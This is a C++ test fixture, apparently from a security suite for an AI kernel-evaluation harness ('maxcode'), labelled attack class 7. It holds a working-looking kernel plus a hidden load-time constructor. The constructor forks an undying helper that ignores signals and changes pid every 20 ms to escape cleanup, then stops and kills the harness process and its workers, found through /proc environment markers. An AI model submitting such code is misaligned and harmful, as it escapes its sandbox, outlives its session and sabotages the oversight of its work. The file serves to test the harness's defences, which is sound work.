// Attack class 7 (issue 13): escape and denial of service.
// At load time it forks a helper that leaves its session, ignores SIGHUP/SIGTERM, names
// itself @MARKER@ and keeps forking and exiting, so its pid changes every 20 ms and outruns
// a list-then-kill cleanup. Then it stops and kills the maxcode process of the same user: the
// pid the test wrote to @PIDFILE@, and every process whose environment carries
// MAXCODE_ATTACK_MARKER=@MARKER@ (the maxcode process and its workers). The kernel is honest
// and burns 100 ms per call (never "faster" on its own): only the batch dying, or the helper
// surviving, would show the attack landed.
#include <dlpack/dlpack.h>
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/prctl.h>
#include <unistd.h>
#include <vector>

namespace {

const char kMarker[] = "@MARKER@";

void helper() {
  if (fork() != 0) {
    usleep(100000);  // until the helper has named itself: the sweep below spares it by its name
    return;
  }
  setsid();
  prctl(PR_SET_NAME, kMarker, 0, 0, 0);
  signal(SIGHUP, SIG_IGN);
  signal(SIGTERM, SIG_IGN);
  signal(SIGINT, SIG_IGN);
  for (;;) {
    if (fork() > 0) _exit(0);  // the child goes on under a new pid
    usleep(20000);
  }
}

std::vector<pid_t> victims() {
  std::vector<pid_t> found;
  if (FILE* f = fopen("@PIDFILE@", "r")) {
    int pid = 0;
    if (fscanf(f, "%d", &pid) == 1 && pid > 1) found.push_back(pid);
    fclose(f);
  }
  char needle[128];
  snprintf(needle, sizeof needle, "MAXCODE_ATTACK_MARKER=%s", kMarker);
  static char buf[1 << 20];
  if (DIR* d = opendir("/proc")) {
    while (dirent* e = readdir(d)) {
      if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
      pid_t pid = atoi(e->d_name);
      if (pid == getpid() || pid <= 1) continue;
      char comm_path[64], comm[64] = {0};
      snprintf(comm_path, sizeof comm_path, "/proc/%s/comm", e->d_name);
      if (FILE* c = fopen(comm_path, "r")) {  // not its own helper, which carries the marker too
        fgets(comm, sizeof comm, c);
        fclose(c);
        if (strncmp(comm, kMarker, strlen(kMarker)) == 0) continue;
      }
      char path[64];
      snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);
      int fd = open(path, O_RDONLY);
      if (fd < 0) continue;
      ssize_t k = read(fd, buf, sizeof buf - 1);
      close(fd);
      if (k > 0 && memmem(buf, k, needle, strlen(needle))) found.push_back(pid);
    }
    closedir(d);
  }
  return found;
}

__attribute__((constructor)) void strike() {
  helper();
  std::vector<pid_t> targets = victims();
  for (pid_t p : targets) kill(p, SIGSTOP);
  for (pid_t p : targets) kill(p, SIGKILL);
}

}  // namespace

extern "C" int maxcode_run(const DLTensor* in, int32_t n_in, DLTensor* out, int32_t n_out, void* stream) {
  const float* x = static_cast<const float*>(in[0].data);
  const float* b = static_cast<const float*>(in[1].data);
  float* y = static_cast<float*>(out[0].data);
  const int64_t rows = in[0].shape[0], cols = in[0].shape[1];
  for (int64_t r = 0; r < rows; ++r)
    for (int64_t c = 0; c < cols; ++c) {
      float v = x[r * cols + c] * 2.0f + b[c];
      v = v < 0.f ? 0.f : v;  // relu (NaN stays NaN, as in torch)
      v = tanhf(v);
      y[r * cols + c] = v * v - 0.5f;
    }
  // slow on purpose, by 100 ms of busy work (a sleep would let the cores go idle, which slows a
  // multi-threaded reference timed next in the same process): never "faster" on its own
  timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  do clock_gettime(CLOCK_MONOTONIC, &now);
  while ((now.tv_sec - start.tv_sec) * 1000000000LL + (now.tv_nsec - start.tv_nsec) < 100000000LL);
  return 0;
}
